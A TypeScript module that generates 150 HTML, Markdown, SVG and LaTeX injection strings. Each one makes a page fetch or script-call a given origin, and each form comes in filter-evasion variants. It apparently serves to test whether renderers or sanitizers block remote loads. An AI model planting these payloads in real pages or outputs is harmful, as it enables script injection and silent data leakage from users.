/** Ways in which a text asks a page to load something, or to run something; `*` is where it would be heard. */
const FORMS = [
  "![a](*)",
  "![a][r]\n\n[r]: *",
  "[![a](*)](*)",
  '![a](<*> "t")',
  "- item\n  - ![a](*)",
  "> # ![a](*)",
  "| a |\n| --- |\n| ![a](*) |",
  "text[^1]\n\n[^1]: ![a](*)",
  "<img src=* onerror=\"hear('*')\">",
  "<img srcset='* 1x, * 2x'>",
  "<picture><source srcset=*><img></picture>",
  "<svg onload=\"hear('*')\"><image href='*'/><use href='*#x'/></svg>",
  "<svg><script href=*></script><animate onbegin=\"hear('*')\" attributeName=x dur=1s></svg>",
  "<script src=*></script><script>hear('*')</script>",
  "<iframe src=*></iframe><iframe srcdoc=\"<img src='*'>\"></iframe>",
  "<object data=*></object><embed src=*>",
  "<video src=* autoplay poster=*></video><audio src=* autoplay></audio>",
  "<link rel=stylesheet href=*><link rel=preload as=image href=*><link rel=dns-prefetch href=*>",
  "<style>@import '*'; body { background: url(*) }</style>",
  "<div style=\"background:url('*')\">x</div><table background=*><td background=*>",
  "<meta http-equiv=refresh content='0;url=*'><base href=*>",
  "<form action=* id=f><input type=image src=*><button autofocus onfocus=\"hear('*')\">",
  "<details open ontoggle=\"hear('*')\"><summary>x</summary></details>",
  "<input autofocus onfocus=\"hear('*')\"><body onload=\"hear('*')\">",
  "<math><mtext><mglyph><style><img src=* onerror=\"hear('*')\"></style></mglyph></mtext></math>",
  "\\(\\href{*}{x} \\includegraphics{*} \\htmlData{a=b}{x}\\)",
  "$$\\url{*} \\htmlStyle{background:url(*)}{x} \\class{x}{y}$$",
  "```html\n<img src=* onerror=\"hear('*')\">\n```",
  '```"><img src=*>\ncode\n```',
  "<!-- --><img src=*><!-- \n\n<![CDATA[<img src=*>]]>",
];

/** The same, the ways in which a filter is got around. */
const TWISTS: ((form: string) => string)[] = [
  (form) => form,
  (form) => form.toUpperCase().replaceAll("*", "*"),
  (form) => `${form.slice(0, 1)}\u200b${form}`,
  (form) => form.replaceAll("<", "<\n"),
  (form) => `${form.replaceAll(" on", "/on")} and it was never clo`,
];

export interface Beacon {
  text: string;
  id: string;
}

/** A hundred and fifty texts; each would be heard at `origin` under a name of its own. */
export function beacons(origin: string): Beacon[] {
  return FORMS.flatMap((form, at) =>
    TWISTS.map((twist, by) => {
      const id = `${at}-${by}`;
      return { id, text: twist(form).replaceAll("*", `${origin}/${id}`) };
    }),
  );
}
